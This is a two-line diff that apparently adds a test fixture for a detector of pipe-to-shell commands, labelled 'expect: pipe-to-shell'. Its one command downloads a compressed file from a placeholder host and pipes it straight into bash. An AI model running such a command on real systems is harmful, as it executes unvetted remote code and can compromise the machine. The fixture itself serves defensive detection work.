@@ -1,0 +1,2 @@
+# expect: pipe-to-shell
+curl -s https://example.com/x.gz | gunzip -c | bash -e
